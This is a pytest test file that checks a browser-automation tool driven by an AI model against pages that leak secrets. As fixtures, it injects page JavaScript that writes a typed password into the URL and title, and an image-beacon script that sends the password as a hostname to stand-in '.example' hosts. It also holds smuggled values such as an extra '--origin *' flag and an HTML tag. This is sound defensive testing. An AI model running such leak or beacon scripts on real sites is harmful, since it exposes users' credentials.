"""A director against pages that give secrets away and models that call its tools in any way they
like."""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path
from threading import Event
from typing import Any

import pytest

import foreword
from foreword.browser import Browser, Rules
from foreword.demos.site import PASSWORD, Site
from foreword.director import Director, assets
from foreword.director.browser_files import place
from foreword.director.turn_lock import conversation_lock
from foreword.errors import StoreError
from foreword.store.carried_items import write_items
from foreword.testing import Reply, ToolCall, fake_provider
from tests.browser.channels import elsewhere, home
from tests.browser.conftest import browser
from tests.browser.working import in_the_page
from tests.director.scenes import calls, open_director, results_in

pytestmark = pytest.mark.attack

__all__ = ["browser"]
LOG_IN = {"action": "type", "selector": "#password", "reason": "log in"}
GIVES_AWAY = """() => { document.querySelector('#password').type = 'text';
  history.replaceState(0, '', '/login?word=' + password.value); document.title = password.value;
  document.querySelector('h1').textContent = 'You are ' + password.value }"""


def nested_value(depth: int) -> Any:
    """A list in a list in a list."""
    value: Any = "leaf"
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize("kept", [{"creds": {"password": PASSWORD}}, {"login": {"word": PASSWORD}}])
def test_a_page_that_repeats_what_was_typed_tells_the_model_nothing(
    tmp_path: Path, browser: Browser, desk: Site, kept: dict[str, Any]
) -> None:
    ((name, value),) = kept.items()
    typed = {**LOG_IN, "variable": f"{name}.{next(iter(value))}"}
    events: list[dict[str, Any]] = []

    def script(body: Mapping[str, Any]) -> Reply | str:
        done = len(results_in(body))
        if done == 2:
            in_the_page(browser, GIVES_AWAY)
            look = {"inspection": "lightweight_exploration", "instruction": "who am I"}
            wrong = {"action": "click", "selector": "#no", "reason": "look"}
            looks = [
                ToolCall("inspect_tab", {"inspection": "dom_snapshot"}),
                ToolCall("inspect_tab", look),
            ]
            return Reply(tool_calls=[*looks, ToolCall("debug_action", wrong)])
        begin = {"url": f"{desk.url}/login", "reason": "begin"}
        return (
            calls(debug_navigate=begin, debug_action=typed) if not done else f"You are {PASSWORD}."
        )

    with (
        fake_provider(script) as provider,
        open_director(tmp_path, provider.openai, browser=browser) as director,
    ):
        for variable, given in kept.items():
            director.session.set_variable(variable, given, "to sign in")
        turn = director.say("Log in", on_event=events.append)
        history = [message.text for message in director.session.history()]
    assert len(results_in(provider.requests[-1])) == 5
    assert "/login?word=[hidden]" in json.dumps(provider.requests[-1])
    assert PASSWORD not in json.dumps([provider.requests[2:], events, turn.text, history])


def test_arguments_may_be_nested_as_deeply_as_a_model_likes(tmp_path: Path) -> None:
    wanted = {"name": "deep", "value": nested_value(900), "reason": "x"}
    with (
        fake_provider([calls(set_variable=wanted), "Done."]) as provider,
        open_director(tmp_path, provider.openai) as director,
    ):
        assert director.say("Go").text == "Done."
        assert director.call("set_variable", {**wanted, "value": nested_value(3_000)}).failed
        assert director.session.context().messages


def test_a_tab_without_a_name_is_asked_for(tmp_path: Path, browser: Browser) -> None:
    with open_director(tmp_path, browser=browser) as director:
        made = director.call("debug_close_tab", {"name": "", "reason": "x"})
    assert (made.text, made.failed) == ("failed: which tab? (give its name)", True)


def test_wherever_it_is_stopped_every_call_has_its_result(tmp_path: Path) -> None:
    wanted = [
        ToolCall("set_variable", {"name": f"v{n}", "value": n, "reason": "x"}) for n in range(3)
    ]
    reply = Reply("I look around.", tool_calls=wanted)
    with fake_provider(reply) as provider, open_director(tmp_path, provider.openai) as director:
        for moment in range(1, 12):
            _stop_at(director, moment)
            called = list[str]()
            answered = list[str]()
            for message in director.session.history():
                called += message.calls
                answered += message.results
            assert called == answered


def _stop_at(director: Director, moment: int) -> None:
    """Say stop when something has happened for so many times."""
    cancel, left = Event(), [moment]

    def stop(event: Mapping[str, Any]) -> None:
        left[0] -= 1
        if not left[0]:
            cancel.set()

    assert director.say("Go", on_event=stop, cancel=cancel).stopped


def test_what_a_page_could_not_load_is_told_to_the_model_and_offered_by_name_the_next_time(
    tmp_path: Path,
) -> None:
    with home() as served, elsewhere() as away:
        served.away = cdn = away.origin("127.0.0.2")
        rules = Rules(origins=(served.url,), page_seconds=6)

        def looked(director: Director) -> str:
            told = director.call(
                "debug_navigate", {"url": f"{served.url}/channel/script", "reason": "look"}
            ).text
            return (
                told
                + director.call(
                    "debug_action", {"action": "wait", "selector": "h1", "reason": "look"}
                ).text
            )

        with open_director(
            tmp_path, browser=lambda restore: Browser.start(rules, folder=tmp_path / "p")
        ) as director:
            assert assets.origins_to_offer(director.session, rules) == []
            told = looked(director)
        allowing = Rules(origins=rules.origins, assets=(cdn,))
        with open_director(
            tmp_path, browser=lambda restore: Browser.start(allowing, folder=tmp_path / "p")
        ) as director:
            (offered,) = assets.origins_to_offer(director.session, rules)
            assert assets.origins_to_offer(director.session, allowing) == []
            assert "blocked" not in looked(director)

    assert f"1 request to {cdn} (script); the user can allow them: --assets {cdn}" in told
    assert (offered.option, offered.kinds) == (f"--assets {cdn}", ("script",))
    assert "script" in away.reached


def test_a_page_does_not_grow_the_list_of_what_is_offered_without_end_nor_put_a_secret_in_it(
    tmp_path: Path,
) -> None:
    ask = """(names) => Promise.all(names.map(name => new Promise(done => {
      const image = new Image();
      image.onerror = done; image.src = `http://${name}.example/x` }))).then(() => 1)"""
    names = json.dumps([PASSWORD, *(f"cdn{n}" for n in range(50))])
    with (
        home() as served,
        Browser.start(Rules(origins=(served.url,)), folder=tmp_path / "profiles") as browser,
        open_director(tmp_path, browser=browser) as director,
    ):
        director.session.set_variable("creds.password", PASSWORD, "to sign in")
        director.call("debug_navigate", {"url": served.url, "reason": "look"})
        in_the_page(browser, f"() => ({ask})({names})")
        told = director.call(
            "debug_action", {"action": "wait", "selector": "h1", "reason": "look"}
        ).text
        kept = assets.stored_origins(director.session)

    assert len(kept) == assets.MOST_KEPT
    assert PASSWORD not in told + str(kept)


def test_what_a_stranger_wrote_into_the_list_is_offered_only_where_it_is_an_origin(
    tmp_path: Path,
) -> None:
    with open_director(tmp_path) as director:
        place = assets._items_name(director.session)
        titles = [
            "https://cdn.example",
            "https://a.example --origin *",
            "<img src=x>",
            "*",
            "https://x.example/path",
        ]
        items = {
            ("blocked asset", title): {"kind": "k", "title": title, "text": "script <b>"}
            for title in titles
        }
        write_items(director.session.db, place, items)
        assert [(one.origin, one.kinds) for one in assets.stored_origins(director.session)] == [
            ("https://cdn.example", ("script",))
        ]


def test_a_pipe_in_the_place_of_the_lock_is_not_waited_for(tmp_path: Path) -> None:
    with foreword.Session.open(f"sqlite:///{tmp_path}/state.db", root=tmp_path) as session:
        lock = place(session).with_suffix(".lock")
        lock.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
        os.mkfifo(lock)
        with pytest.raises(StoreError, match="can't be used"), conversation_lock(session):
            pass
